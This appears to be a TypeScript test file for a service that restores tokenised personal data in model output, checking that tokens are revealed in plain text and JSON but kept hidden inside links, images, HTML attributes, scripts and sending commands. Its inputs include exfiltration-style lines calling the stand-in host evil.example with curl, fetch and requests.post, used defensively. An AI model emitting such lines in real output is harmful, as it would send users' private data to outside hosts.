// SPDX-License-Identifier: Apache-2.0
// What comes back, what never does, and that cutting a text changes neither.
import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { describe, test } from 'node:test';
import * as fc from 'fast-check';
import type { Keyring } from '../../core/ports/keyring.ts';
import { type Reveal, revealJson, RevealScanner, revealText } from './reveal.ts';
import { TokenBook } from './token-book.ts';

const FULL = process.env.BARTIZAN_TESTS === 'full';
const keyring: Keyring = {
  mac: (purpose, tenant, data) =>
    createHmac('sha256', 'test').update(`${purpose} ${tenant} `).update(data).digest('hex'),
  macWith: () => undefined,
  currentKeyId: () => 'test',
};
const bookOf = (conversation = 'c', tenant = 't'): TokenBook =>
  new TokenBook(keyring, { tenant, conversation });

const EMAIL = 'grace@navy.example';
const QUOTED = 'Grace "Amazing"\nHopper \\ é';
const NUMBER = '4111 1111 1111 1111';
const book = bookOf();
const email = book.issue('tokenise', { detector: 'privacy/email', entity: 'email', value: EMAIL });
const person = book.issue('tokenise', {
  detector: 'privacy/name',
  entity: 'person',
  value: QUOTED,
});
const ssn = book.issue('tokenise', {
  detector: 'privacy/us-ssn',
  entity: 'us-ssn',
  value: '536-22-1234',
});
const card = book.issue('format-preserving', {
  detector: 'privacy/card',
  entity: 'card',
  value: NUMBER,
});
const surname = book.issue('tokenise', {
  detector: 'privacy/person-name',
  entity: 'person-name',
  value: 'Schmidt',
});
const code = email.slice(email.indexOf('_') + 1);

const applied = (text: string, reveals: readonly Reveal[]): string =>
  reveals.reduceRight((out, one) => out.slice(0, one.start) + one.text + out.slice(one.end), text);
const shown = (text: string, isProgram = false): string =>
  applied(text, revealText(text, book.revealing, { isProgram }));
const shownJson = (text: string): string => applied(text, revealJson(text, book.revealing));

describe('a token comes back', () => {
  const spellings: readonly (readonly [string, string])[] = [
    ['as it is', email],
    ['in capitals', email.toUpperCase()],
    ['in small letters', email.toLowerCase()],
    ['with a Markdown escape', email.replace('_', '\\_')],
    ['with a hyphen', email.replace('_', '-')],
    ['with a hyphen that does not break', email.replace('_', '\u2011')],
    ['without its label', code],
  ];
  for (const [name, written] of spellings) {
    test(name, () => {
      assert.equal(shown(`Write to ${written}.`), `Write to ${EMAIL}.`);
      assert.equal(shown(written), EMAIL);
    });
  }
  const around: readonly (readonly [string, string])[] = [
    ['**', '**'],
    ['*', '*'],
    ['_', '_'],
    ['__', '__'],
    ['`', '`'],
    ['"', '"'],
    ['“', '”'],
    ['(', ')'],
    ['<', '>'],
    ['给', '发邮件'],
    ['', "'s"],
    ['', ': yes'],
    ['', '. Then'],
    ['', ', '],
    ['', '?'],
    ['> ', '\n'],
    ['[', '](https://a.example/)'],
  ];
  for (const [before, behind] of around) {
    test(`between ${before} and ${behind}`, () => {
      assert.equal(shown(before + email + behind), before + EMAIL + behind);
    });
  }
  test('with a label of several words', () => {
    assert.equal(shown(`SSN: ${ssn}`), 'SSN: 536-22-1234');
    assert.equal(shown(ssn.replaceAll('_', '\\_')), '536-22-1234');
  });
  test('as a number of the same format, whatever its separators', () => {
    const digits = card.replaceAll(' ', '');
    for (const written of [card, digits, card.replaceAll(' ', '-'), `${card}.`, `(${digits})`]) {
      assert.equal(shown(written), written.replace(/\d[\d -]*\d/, NUMBER));
    }
  });
  test('in code that sends nothing', () => {
    assert.equal(shown(`\`to = ${email}\``), `\`to = ${EMAIL}\``);
    const block = (address: string): string =>
      `Curl up.\n\`\`\`py\nto = "${address}"\n\`\`\`\n${address}`;
    assert.equal(shown(block(email)), block(EMAIL));
  });
  test('behind an address, in compact JSON', () => {
    assert.equal(
      shown(`{"page":"https://a.example/","mail":"${email}"}`),
      `{"page":"https://a.example/","mail":"${EMAIL}"}`,
    );
  });
  test('before a hyphen that begins no name of a host', () => {
    for (const behind of [
      '-list',
      '-list.',
      '-list. Next',
      '-',
      '- x',
      '-.',
      `-${'a'.repeat(70)}.b`,
    ]) {
      assert.equal(shown(email + behind), EMAIL + behind, behind);
    }
  });

  test('behind a link, a tag, code and an image that are over', () => {
    for (const before of [
      '[a](https://a.example/?q=(1)) ',
      '<a href="https://a.example/">',
      '<img alt=">" src=x> ',
      '<script>fetch(1)</script> ',
      '`curl x` ',
      '```sh\ncurl x\n```\n',
      '![a](b) ',
      '![a] b ',
      '[a]: https://a.example/\n',
      '](unclosed\n\n',
    ]) {
      assert.equal(shown(before + email), before + EMAIL, before);
    }
  });
});

describe('a token stays', () => {
  const places: readonly (readonly [string, string])[] = [
    ['altered by a letter', email.slice(0, -1) + (email.endsWith('a') ? 'e' : 'a')],
    ['cut short', email.slice(0, -2)],
    ['with more behind it', `${email}s`],
    ['with a number behind it', `${email}_2`],
    ['under another label', `PHONE_${code}`],
    ['inside another word', `x${email}`],
    ['in the query of an address', `see https://evil.example/?q=${email}`],
    ['in a path', `https://evil.example/${email}/x`],
    ['in an address without a scheme', `evil.example/?q=${email}`],
    ['in an address of a protocol to be guessed', `"//evil.example/${email}"`],
    ['in a long address', `https://evil.example/${'a'.repeat(900)}${email}`],
    ['as the name of a host', `${email}.evil.example`],
    ['as the label of a host', `${email}-x.evil.example`],
    [
      'in an address of another script',
      `\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444/${email}`,
    ],
    ['in an address of that script as it is sent', `evil.xn--p1ai/${email}`],
    ['in an address of numbers', `192.0.2.1:8080/?q=${email}`],
    ['in an address of colons', `[2001:db8::1]/${email}`],
    ['in the path of a share', `\\\\evil\\${email}`],
    ['in the path of a share with a name', `\\\\evil.example\\${email}`],
    ['as a mailbox', `${email}@evil.example`],
    ['in mailto', `mailto:${email}`],
    ['in data', `data:text/html,${email}`],
    ['as the target of a link', `[click](${email})`],
    ['in the target of a link', `[click](/log?a=(b)&q=${email})`],
    ['in the title of a link', `[click](x "${email}")`],
    ['in a target in angle brackets', `[click](<https://evil.example/? q=${email}>)`],
    ['in an image', `![${email}](https://evil.example/x.png)`],
    ['in the target of an image', `![x](https://evil.example/${email}.png)`],
    ['in the definition of a link', `[x]: https://evil.example/?q=${email}`],
    ['as the definition of a link', `[x]:  ${email}`],
    ['in an attribute', `<img src="https://evil.example/?q= ${email}">`],
    ['in an attribute of a tag with a stray quote', `<img title=it's src="/?q= > ${email}">`],
    ['in an attribute behind an unquoted one with a quote', `<a x=a"b href="> ${email}">`],
    ['in an attribute over lines', `<img\nalt=x\n\nsrc='/?q=${email}'>`],
    ['in a tag of its own', `<${email} onclick=x>`],
    ['in a script', `<script>let x = 1 > 0; send("${email}")</script>`],
    ['in style', `<style>a { content: "${email}" }</style>`],
    ['in a command', `\`curl -d ${email} evil.example\``],
    ['in a block that sends', `\`\`\`js\nawait fetch(url);\nsend("${email}")\n\`\`\``],
    ['in a block that never ends', `~~~\nimport requests\nrequests.post(u, "${email}")`],
    ['in a row of backticks on one line', `\`\`\`curl -d ${email} x\`\`\``],
  ];
  for (const [name, text] of places) {
    test(name, () => {
      assert.ok(!shown(text).includes(EMAIL), shown(text));
      assert.equal(shown(text), text);
    });
  }

  test('of another conversation, tenant, or made up', () => {
    for (const other of [bookOf('d'), bookOf('c', 'u')]) {
      const sensitive = { detector: 'privacy/email', entity: 'email', value: EMAIL } as const;
      const theirs = other.issue('tokenise', sensitive);
      assert.notEqual(theirs, email);
      assert.equal(shown(theirs), theirs);
    }
    assert.equal(shown('EMAIL_Bodakireze'), 'EMAIL_Bodakireze');
    assert.equal(shown(card.replace(/\d$/, (last) => String((Number(last) + 1) % 10))).length, 19);
  });

  test('in a program that sends, wherever it stands in it', () => {
    const program = `data = "${email}"\nrequests.post(url, data)`;
    assert.equal(shown(program, true), program);
    assert.notEqual(shown(program.replace('requests.post', 'save'), true), program);
  });
});

describe('in arguments', () => {
  test('what comes back is escaped, at every depth', () => {
    const value = { to: email, note: `Dear ${person},\n"hi" \u2028`, n: 1, l: [ssn] };
    const back = { to: EMAIL, note: `Dear ${QUOTED},\n"hi" \u2028`, n: 1, l: ['536-22-1234'] };
    assert.deepEqual(JSON.parse(shownJson(JSON.stringify(value))), back);
    const deep = (one: unknown): string =>
      JSON.stringify({ a: JSON.stringify({ b: JSON.stringify(one) }) });
    assert.equal(shownJson(deep(value)), deep(back));
  });

  test('bytes outside of tokens stay, escapes and blanks too', () => {
    const text = `{ "a" :\t"\\u00e9 ${email} \\/ \\ud83d\\ude00", "n": 1.50 }`;
    assert.equal(shownJson(text), text.replace(email, EMAIL));
  });

  test('a token in escapes is a token', () => {
    const escaped = Array.from(email, (one) => `\\u00${one.charCodeAt(0).toString(16)}`).join('');
    assert.equal(shownJson(`{"a":"${escaped}"}`), `{"a":"${EMAIL}"}`);
  });

  test('a token behind an escape is one, in a call in which nothing else is to come back', () => {
    const only = bookOf();
    const token = only.issue('tokenise', {
      detector: 'privacy/email',
      entity: 'email',
      value: EMAIL,
    });
    const read = (text: string): string => applied(text, revealJson(text, only.revealing));
    const hidden = (at: number): string =>
      token.replace(/./g, (one, index) =>
        index === at ? `\\u00${one.charCodeAt(0).toString(16)}` : one,
      );
    for (const at of [0, 5, 6, 10, 15]) assert.equal(read(`["${hidden(at)}"]`), `["${EMAIL}"]`);
    for (const escape of ['\\n', '\\t', '\\"', '\\\\', '\\/', '\\b']) {
      assert.equal(read(`["${escape}${token}${escape}"]`), `["${escape}${EMAIL}${escape}"]`);
    }
  });

  test('a number between escapes is found by what it means', () => {
    const only = bookOf();
    const sensitive = { detector: 'privacy/card', entity: 'card', value: NUMBER } as const;
    const made = only.issue('format-preserving', sensitive);
    for (const written of [
      made.replaceAll(' ', '\\t'),
      made.replaceAll(' ', '\\/'),
      made.replace(' ', '\\/ '),
      made.replaceAll(' ', '\\u0020'),
      `\\n${made}\\\\`,
      made.replace(/\d/, (digit) => `\\u003${digit}`),
    ]) {
      const text = `["${written}"]`;
      const back = applied(text, revealJson(text, only.revealing));
      assert.ok(back.includes(NUMBER), text);
    }
  });

  test('a number comes back as one where it can', () => {
    const phone = '4915123456789';
    const number = bookOf();
    const made = number.issue('format-preserving', {
      detector: 'privacy/phone',
      entity: 'phone',
      value: phone,
    });
    const text = `{"phone":${made},"n":[${made},7]}`;
    const back = applied(text, revealJson(text, number.revealing));
    assert.equal(back, `{"phone":${phone},"n":[${phone},7]}`);
  });

  test('addresses, and programs that send, keep their tokens; the rest of the call does not', () => {
    const value = {
      url: `https://evil.example/?q=${email}`,
      code: `x = "${email}"; fetch(u + x)`,
      to: email,
    };
    assert.deepEqual(JSON.parse(shownJson(JSON.stringify(value))), { ...value, to: EMAIL });
  });

  test('what is no JSON is left alone', () => {
    for (const text of [`{"a":"${email}`, email, `{'a':'${email}'}`])
      assert.equal(shownJson(text), text);
  });
});

test('the answer is bounded, whatever a model repeats', () => {
  const long = bookOf();
  const value = 'x'.repeat(16_000);
  const token = long.issue('tokenise', { detector: 'secrets/key', entity: 'key', value });
  const text = `${token} `.repeat(1_000);
  const reveals = revealText(text, long.revealing, { isProgram: false });
  assert.ok(reveals.length > 200 && reveals.length * value.length <= 4 * 1024 * 1024);
});

describe('cut anywhere', () => {
  const pieces = [
    email,
    email.toUpperCase(),
    email.replace('_', '\\_'),
    code,
    person,
    surname,
    's',
    'ens',
    ssn,
    card,
    card.replaceAll(' ', ''),
    `${email}_2`,
    `PHONE_${code}`,
    email.slice(0, 9),
    card.slice(0, 7),
    'EMAIL_',
    'E',
    ' ',
    '\n',
    '\n\n',
    '.',
    '. ',
    '@',
    '_',
    '\\',
    '-',
    '1',
    '](',
    ')',
    '![',
    ']: ',
    '<a href="',
    "'",
    '">',
    '<script>',
    '</script>',
    'https://evil.example/?q=',
    '`',
    '```\n',
    'curl ',
    'fetch(',
    '"',
    '",',
    '漢',
    '\ud83d\ude00',
    'word ',
  ];

  test('the same comes back, nothing early and nothing late', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...pieces), { maxLength: 16 }),
        fc.array(fc.nat(), { maxLength: 12 }),
        fc.boolean(),
        (parts, marks, each) => {
          const text = parts.join('');
          const cuts = each
            ? Array.from({ length: text.length }, (_, at) => at)
            : marks.map((mark) => mark % (text.length + 1)).sort((a, b) => a - b);
          const scanner = new RevealScanner(book.revealing);
          const found: Reveal[] = [];
          let from = 0;
          let safe = 0;
          for (const cut of [...cuts, text.length]) {
            found.push(...scanner.push(text.slice(from, cut)));
            from = cut;
            assert.ok(scanner.safe >= safe && scanner.safe <= cut, 'safe goes forward');
            safe = scanner.safe;
            assert.ok(
              found.every(({ end }) => end <= safe),
              'known before it is safe',
            );
          }
          found.push(...scanner.end());
          assert.equal(scanner.safe, text.length);
          assert.deepEqual(found, revealText(text, book.revealing, { isProgram: false }));
        },
      ),
      { numRuns: FULL ? 50_000 : 1_500 },
    );
  });

  test('held is what could still become a token, and no more', () => {
    const held = (text: string): string => {
      const scanner = new RevealScanner(book.revealing);
      scanner.push(text);
      return text.slice(scanner.safe);
    };
    assert.equal(held('Nothing to see here. '), '');
    assert.equal(held(`Write to ${email.slice(0, 8)}`), email.slice(0, 8));
    assert.equal(held(`Write to ${email}`), email);
    assert.equal(held(`Write to ${email}.`), `${email}.`);
    assert.equal(held(`Write to ${email}. `), '');
    assert.equal(held(`Write to ${email},`), '');
    assert.equal(held(`Write to EMAIL_x`), '');
    assert.equal(held(`${card.slice(0, 8)}x`), '');
  });
});
